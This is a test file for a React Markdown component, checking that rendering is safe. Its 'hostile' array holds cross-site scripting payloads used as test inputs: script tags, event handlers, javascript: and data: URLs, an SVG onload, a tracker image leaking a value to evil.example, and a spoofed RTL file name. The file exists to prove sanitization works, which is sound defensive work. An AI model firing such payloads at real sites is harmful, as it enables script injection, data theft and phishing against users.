import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../../src';

const renderMd = (text: string, extra: Partial<Parameters<typeof Markdown>[0]> = {}) => render(<Markdown text={text} {...extra} />).container;

describe('Markdown', () => {
  it('renders the everyday subset: paragraphs, breaks, emphasis, code, lists, quotes', () => {
    const c = renderMd('Hello **bold** and *em* and ~~gone~~ and `x < y`\nsecond line\n\n- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n```js\nconst a = "<b>";\n```');
    expect(c.querySelector('strong')).toHaveTextContent('bold');
    expect(c.querySelector('em')).toHaveTextContent('em');
    expect(c.querySelector('del')).toHaveTextContent('gone');
    expect(c.querySelector('p code')).toHaveTextContent('x < y');
    expect(c.querySelector('p br')).not.toBeNull();
    expect(c.querySelectorAll('ul > li')).toHaveLength(3);
    expect(c.querySelector('ul ul li')).toHaveTextContent('nested');
    expect(c.querySelectorAll('ol > li')).toHaveLength(2);
    expect(c.querySelector('blockquote')).toHaveTextContent('quoted');
    expect(c.querySelector('pre code')).toHaveTextContent('const a = "<b>";');
    expect(c.querySelector('b')).toBeNull();
  });

  it('links only http(s) and mailto, opening safely and naming the real host', () => {
    renderMd('[docs](https://docs.example.com/a) <https://x.example> see https://auto.example/path. and mailto:help@example.com');
    const docs = screen.getByRole('link', { name: 'docs' });
    expect(docs).toHaveAttribute('href', 'https://docs.example.com/a');
    expect(docs).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc');
    expect(docs).toHaveAttribute('target', '_blank');
    expect(docs).toHaveAttribute('title', 'docs.example.com');
    expect(screen.getByRole('link', { name: 'https://auto.example/path' })).toHaveAttribute('href', 'https://auto.example/path');
    expect(screen.getByRole('link', { name: 'https://x.example' })).toBeInTheDocument();
  });

  const hostile = [
    '<script>window.__pwned = 1</script>',
    '<img src=x onerror="window.__pwned=1">',
    '<style>body{display:none}</style><iframe src="https://evil.example"></iframe>',
    '[click](javascript:window.__pwned=1)',
    '[click](JaVaScRiPt:alert(1))',
    '[click](java\tscript:alert(1))',
    '[click](vbscript:msgbox(1))',
    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![tracker](https://evil.example/leak?q=secret)',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '[ref]: javascript:alert(1)\n[ref]',
    '<a href="javascript:alert(1)">raw link</a>',
    '[x](&#106;avascript:alert(1))',
    '[spoof\u202Ecod.exe](https://evil.example)',
  ];

  it.each(hostile)('renders %j inert', (text) => {
    const c = renderMd(text);
    expect(c.querySelector('script, style, iframe, object, embed, form, svg, img')).toBeNull();
    for (const el of c.querySelectorAll('*')) {
      for (const attr of el.attributes) expect(attr.name.startsWith('on')).toBe(false);
    }
    for (const a of c.querySelectorAll('a')) expect(a.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it('never nests a link inside a link, and shows the real host when the text looks like another URL', () => {
    const c = renderMd('[https://bank.example](https://evil.example/phish)');
    expect(c.querySelectorAll('a')).toHaveLength(1);
    expect(c.querySelector('a')).toHaveAttribute('title', 'evil.example');
  });

  it('loads images only from allowed origins, otherwise links to them by host', () => {
    const allowed = renderMd('![chart](https://cdn.example.com/c.png)', { allowedImageOrigins: ['https://cdn.example.com'] });
    expect(allowed.querySelector('img')).toHaveAttribute('src', 'https://cdn.example.com/c.png');
    expect(allowed.querySelector('img')).toHaveAttribute('referrerpolicy', 'no-referrer');
    const blocked = renderMd('![chart](https://other.example/c.png)', { allowedImageOrigins: ['https://cdn.example.com'] });
    expect(blocked.querySelector('img')).toBeNull();
    expect(blocked.querySelector('a')).toHaveTextContent('chart (Image from other.example)');
  });

  it('caps nesting, so hostile depth renders as text instead of exhausting the stack', () => {
    const c = renderMd(`${'> '.repeat(5000)}deep\n\n${'- '.repeat(3000)}x\n\n${'*'.repeat(2000)}`, { plainTextOver: Infinity });
    expect(c.querySelector('.parlant-md-plain')).toBeNull();
    expect(c.textContent).toContain('deep');
    expect(c.querySelectorAll('blockquote').length).toBeLessThanOrEqual(8);
    expect(c.querySelectorAll('ul').length).toBeLessThanOrEqual(8);
  });

  it('shows very long messages as plain text', () => {
    const huge = renderMd(`**${'a'.repeat(30_000)}**`);
    expect(huge.querySelector('.parlant-md-plain')).not.toBeNull();
    expect(huge.querySelector('strong')).toBeNull();
  });
});
